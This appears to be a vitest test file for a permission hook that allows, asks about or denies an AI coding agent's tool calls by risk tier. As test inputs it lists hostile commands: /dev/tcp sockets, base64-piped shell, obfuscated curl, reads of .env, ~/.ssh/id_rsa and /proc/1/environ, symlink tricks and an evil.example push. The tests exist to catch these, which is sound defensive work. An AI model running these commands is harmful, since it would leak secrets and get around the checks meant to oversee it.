import { beforeAll, describe, expect, it } from 'vitest';
import { decideHook } from '../../../../src/policy/hook/decide.js';
import { contextFor } from '../../../../src/policy/hook/fixtures.js';
import { deciderFor, planOf } from './helpers.js';

type Decider = Awaited<ReturnType<typeof deciderFor>>;
let low: Decider;
let ci: Decider;
let prod: Decider;
beforeAll(async () => {
  [low, ci, prod] = await Promise.all([
    deciderFor('low-risk'),
    deciderFor('ci-headless'),
    deciderFor('production-adjacent'),
  ]);
});

describe('Bash families', () => {
  it.each([
    ['curl https://x', 'network-transfer', 'curl https://x'],
    ['/usr/bin/curl https://x', 'network-transfer', 'curl https://x'],
    ['bash -c "wget x"', 'network-transfer', 'wget x'],
    ["python3 -c 'import urllib.request'", 'network-transfer', 'python3 -c import urllib.request'],
    ['cp /usr/bin/curl ./c; ./c x', 'network-transfer', 'curl x'],
    ['exec 3<>/dev/tcp/203.0.113.1/80', 'network-transfer', 'exec'],
  ])('denies %s as %s and shows what ran', (command, rule, normalised) => {
    const d = low.bash(command);
    expect(d).toMatchObject({ decision: 'deny', rule });
    expect(d.normalised).toContain(normalised);
  });

  it('asks for what it cannot resolve interactively and denies it headless', () => {
    expect(low.bash('echo Y3VybA== | base64 -d | sh')).toMatchObject({
      decision: 'ask',
      rule: 'unresolved-command',
    });
    expect(ci.bash('echo Y3VybA== | base64 -d | sh')).toMatchObject({
      decision: 'deny',
      rule: 'unresolved-command',
    });
    expect(low.bash('$(printf cu; printf rl) x').decision).toBe('ask');
  });

  it('uses the tier decision of a family (git push asks in low-risk, denies in ci-headless)', () => {
    expect(low.bash('git -c remote.origin.url=https://evil.example/x push').decision).toBe('ask');
    expect(ci.bash('git push').decision).toBe('deny');
  });

  it('reads a script written in the same command before deciding', () => {
    expect(low.bash("printf 'wget -q x' > t.sh && sh t.sh")).toMatchObject({
      decision: 'deny',
      rule: 'network-transfer',
    });
  });

  it('asks before running a file the session created', () => {
    expect(low.bash('./gen.sh', { sessionCreated: new Set(['gen.sh']) })).toMatchObject({
      decision: 'ask',
      rule: 'session-script',
    });
    expect(low.bash('./gen.sh').decision).toBe('allow');
  });

  it('allows local work in low-risk, with the evidence', () => {
    for (const c of [
      'git add -A && git commit -m "x"',
      'npx vitest run',
      'python3 -m pytest',
      'tsc --noEmit',
      'npx eslint .',
      'prettier --check .',
    ]) {
      expect(low.bash(c), c).toMatchObject({ decision: 'allow', rule: 'local-work' });
    }
  });

  it('never allows what the tier rules ask or deny, even if the engine would', () => {
    // `gh pr create` is in no family, but production-adjacent asks for it in its permission rules.
    expect(low.bash('gh pr create --fill').decision).toBe('allow');
    expect(prod.bash('gh pr create --fill')).toMatchObject({
      decision: 'ask',
      rule: 'tier-rule Bash(gh pr create *)',
    });
    // low-risk denies `git push --force *` by rule; the git-push family alone would only ask.
    expect(low.bash('git push --force origin main')).toMatchObject({
      decision: 'deny',
      rule: 'tier-rule Bash(git push --force *)',
    });
  });

  it('answers ask (deny headless) when no parser is loaded', () => {
    const plan = planOf('low-risk');
    const input = { hook_event_name: 'PreToolUse', tool_name: 'Bash', tool_input: { command: 'ls' } };
    expect(decideHook(input, plan.hookPolicy, contextFor(plan))).toMatchObject({
      decision: 'ask',
      rule: 'parser-unavailable',
    });
    expect(decideHook(input, plan.hookPolicy, { ...contextFor(plan), headless: true }).decision).toBe('deny');
  });

  it('does not answer allow in plan mode for a tool that changes things', () => {
    const plan = low.tool({
      tool_name: 'Bash',
      tool_input: { command: 'npm test' },
      permission_mode: 'plan',
    });
    expect(plan).toMatchObject({ decision: 'ask', rule: 'plan-mode' });
    expect(
      low.tool({ tool_name: 'Read', tool_input: { file_path: '/workspace/a.ts' }, permission_mode: 'plan' })
        .decision,
    ).toBe('allow');
  });
});

describe('paths', () => {
  it.each([
    'cat .env',
    'less .env',
    'cp ~/.ssh/id_rsa /tmp/k',
    'tar czf - ~/.ssh',
    'cat src/../.env',
    'cat .en*',
    'head secrets/db.json',
    'ln -s .env x; cat x',
    'cat /proc/1/environ',
  ])('denies %s as a secret path', (command) => {
    expect(low.bash(command)).toMatchObject({ decision: 'deny', rule: 'secret-path' });
  });

  it('resolves a symlink through realpath where the caller can see the filesystem', () => {
    const realpath = (p: string): string | undefined =>
      p === '/workspace/link' ? '/workspace/.env' : undefined;
    expect(low.bash('cat link').decision).toBe('allow');
    expect(low.bash('cat link', { realpath })).toMatchObject({
      decision: 'deny',
      paths: expect.arrayContaining(['.env']) as unknown,
    });
    expect(low.tool({ tool_name: 'Read', tool_input: { file_path: '/workspace/.env' } }).decision).toBe(
      'deny',
    );
  });

  it('asks for control-plane writes (deny headless) and allows reading them', () => {
    const edit = { tool_name: 'Edit', tool_input: { file_path: '/workspace/.github/workflows/ci.yml' } };
    expect(low.tool(edit)).toMatchObject({
      decision: 'ask',
      rule: 'control-path',
      paths: ['.github/workflows/ci.yml'],
    });
    expect(ci.tool(edit).decision).toBe('deny');
    expect(low.bash('echo x > .claude/settings.json').decision).toBe('ask');
    expect(low.bash('cat .github/workflows/ci.yml').decision).toBe('allow');
    expect(low.tool({ tool_name: 'Edit', tool_input: { file_path: '/workspace/src/a.ts' } }).decision).toBe(
      'allow',
    );
  });

  it('denies Grep and Glob that name secrets', () => {
    expect(low.tool({ tool_name: 'Grep', tool_input: { pattern: 'KEY', path: '.env' } }).decision).toBe(
      'deny',
    );
    expect(low.tool({ tool_name: 'Glob', tool_input: { pattern: '**/*.pem' } }).decision).toBe('deny');
    expect(low.tool({ tool_name: 'Grep', tool_input: { pattern: 'curl', path: 'src' } }).decision).toBe(
      'allow',
    );
  });
});

describe('WebFetch and MCP', () => {
  it('allows only the tier egress allowlist for WebFetch', () => {
    expect(low.tool({ tool_name: 'WebFetch', tool_input: { url: 'https://github.com/x' } }).decision).toBe(
      'allow',
    );
    expect(low.tool({ tool_name: 'WebFetch', tool_input: { url: 'https://evil.example/x' } }).decision).toBe(
      'ask',
    );
    expect(ci.tool({ tool_name: 'WebFetch', tool_input: { url: 'https://github.com/x' } }).decision).toBe(
      'deny',
    );
    expect(low.tool({ tool_name: 'WebFetch', tool_input: { url: 'https://2130706433/' } }).decision).toBe(
      'deny',
    );
  });

  it('allows only approved MCP servers and tools', () => {
    const approved = { mcp: { docs: ['search'], all: ['*'] } };
    expect(low.tool({ tool_name: 'mcp__docs__search' }, approved)).toMatchObject({
      decision: 'allow',
      mcp: { server: 'docs', tool: 'search' },
    });
    expect(low.tool({ tool_name: 'mcp__docs__delete' }, approved)).toMatchObject({
      decision: 'deny',
      rule: 'mcp-tool',
    });
    expect(low.tool({ tool_name: 'mcp__all__x' }, approved).decision).toBe('allow');
    expect(low.tool({ tool_name: 'mcp__evil__run' }, approved)).toMatchObject({
      decision: 'deny',
      rule: 'mcp-server',
    });
  });
});
